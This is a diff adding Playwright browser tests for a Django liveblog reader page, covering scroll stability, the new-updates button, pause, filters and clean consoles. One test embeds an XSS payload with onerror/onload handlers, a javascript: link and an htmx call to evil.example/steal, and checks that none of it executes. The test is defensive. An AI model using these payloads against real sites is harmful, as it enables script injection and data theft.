@@ -1,0 +1,140 @@
+"""The reading experience in real Chromium: no jumps, nothing hostile runs, a clean console."""
+
+import pytest
+from playwright.sync_api import expect
+
+from liveblog import services
+from liveblog.models import Post
+from tests.e2e.test_reader_page import as_writer, open_reader
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.postgres,
+    pytest.mark.redis,
+    pytest.mark.django_db(transaction=True),
+]
+
+WATCH_CSP = """
+window.__cspViolations = [];
+document.addEventListener('securitypolicyviolation',
+  e => window.__cspViolations.push(e.violatedDirective + ' ' + e.blockedURI));
+"""
+
+
+def publish(blog, author, headline, body="<p>Update.</p>"):
+    return as_writer(services.post_save, post=Post(blog=blog, headline=headline, body=body), actor=author)
+
+
+def test_a_scrolled_down_reader_gets_a_new_updates_button_and_no_jump(asgi_server, page, blog, reporter):
+    for n in range(15):
+        publish(blog, reporter, f"Earlier {n}", "<p>" + "Counting continues. " * 40 + "</p>")
+    page.set_viewport_size({"width": 1000, "height": 700})
+    open_reader(page, asgi_server, blog)
+    anchor = page.locator("#" + page.locator("#stream .post").nth(8).get_attribute("id"))
+    anchor.scroll_into_view_if_needed()
+    page.mouse.wheel(0, 200)
+    page.wait_for_timeout(300)
+    before = anchor.bounding_box()["y"]
+
+    publish(blog, reporter, "Breaking while you read")
+    button = page.locator("#new-updates")
+    expect(button).to_be_visible(timeout=3000)
+    expect(button).to_have_text("1 new update")
+    assert anchor.bounding_box()["y"] == before  # nothing moved under the reader
+    expect(page.locator("#live-announcer")).to_contain_text("New update: Breaking while you read")
+
+    button.click()
+    fresh = page.locator("#stream .post", has_text="Breaking while you read")
+    expect(fresh).to_be_visible()
+    expect(fresh).to_be_in_viewport()
+    expect(button).to_be_hidden()
+
+
+def test_a_reader_at_the_top_sees_new_posts_slide_in(asgi_server, page, blog, reporter):
+    open_reader(page, asgi_server, blog)
+    publish(blog, reporter, "Straight in")
+    post = page.locator("#stream .post", has_text="Straight in")
+    expect(post).to_be_visible(timeout=3000)
+    expect(post).to_have_class("post post--arriving")
+    expect(page.locator("#new-updates")).to_be_hidden()
+
+
+def test_pause_holds_updates_and_resuming_catches_up(asgi_server, page, blog, reporter):
+    open_reader(page, asgi_server, blog)
+    page.click("#pause-live")
+    expect(page.locator("#pause-live")).to_have_attribute("aria-pressed", "true")
+    publish(blog, reporter, "While paused")
+    page.wait_for_timeout(1000)
+    expect(page.locator("#stream")).not_to_contain_text("While paused")
+    page.click("#pause-live")
+    expect(page.locator("#stream")).to_contain_text("While paused", timeout=3000)
+
+
+def test_key_events_filter_and_oldest_first_are_remembered(asgi_server, page, blog, reporter):
+    as_writer(services.post_save, post=Post(blog=blog, headline="Key one", is_key_event=True), actor=reporter)
+    publish(blog, reporter, "Ordinary")
+    open_reader(page, asgi_server, blog)
+    page.check("#key-only")
+    expect(page.locator("#stream .post", has_text="Ordinary")).to_be_hidden()
+    page.uncheck("#key-only")
+    page.check("#oldest-first")
+    first = page.locator("#stream .post").first
+    assert page.evaluate("getComputedStyle(document.getElementById('stream')).flexDirection") == "column-reverse"
+    page.reload()
+    expect(page.locator("#oldest-first")).to_be_checked()
+    assert first.count() == 1
+
+
+def test_a_post_carrying_an_xss_payload_executes_nothing(asgi_server, page, blog, reporter):
+    dialogs, foreign = [], []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    page.on("request", lambda request: "127.0.0.1" not in request.url and foreign.append(request.url))
+    open_reader(page, asgi_server, blog)
+    payload = (
+        '<p>Results soon <img src="https://evil.example/x.png" onerror="alert(1)"></p>'
+        '<a href="javascript:alert(2)">tap</a>'
+        '<div hx-get="https://evil.example/steal" hx-trigger="load">load</div>'
+        '<svg onload="alert(3)"></svg><script>alert(4)</script>'
+        '<p id="pinned" style="position:fixed;inset:0">cover</p>'
+    )
+    publish(blog, reporter, "Hostile", payload)
+    expect(page.locator("#stream")).to_contain_text("Results soon", timeout=3000)
+    page.reload()
+    expect(page.locator("#stream")).to_contain_text("Results soon")
+    page.locator("#stream a", has_text="tap").click()
+    page.wait_for_timeout(1000)
+    assert dialogs == [] and foreign == []
+    assert page.locator("#pinned").count() == 1
+
+
+def test_reader_pages_have_no_console_errors_and_no_csp_violations(
+    asgi_server, browser, blog, night, reporter, results_desk
+):
+    from results.demo import demo_entry
+    from results.models import Contest
+    from results.services import result_declare
+
+    blog.elections.add(night["hartlepool-2021"])
+    contest = Contest.objects.get(slug="hartlepool")
+    spec, entry = demo_entry(contest)
+    as_writer(result_declare, contest=contest, entry=entry, declared_at=spec.declared_at, actor=results_desk,
+              expected_version=None)  # fmt: skip
+    post = publish(blog, reporter, "Clean page")
+    context = browser.new_context()
+    context.add_init_script(WATCH_CSP)
+    page = context.new_page()
+    errors = []
+    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    for url in (
+        blog.get_absolute_url(),
+        post.get_permalink(),
+        "/results/hartlepool-2021/",
+        "/",
+        "/embed/live/hartlepool/",
+    ):
+        page.goto(f"{asgi_server}{url}")
+        page.wait_for_timeout(700)
+        assert page.evaluate("window.__cspViolations") == [], url
+    assert errors == []
+    context.close()
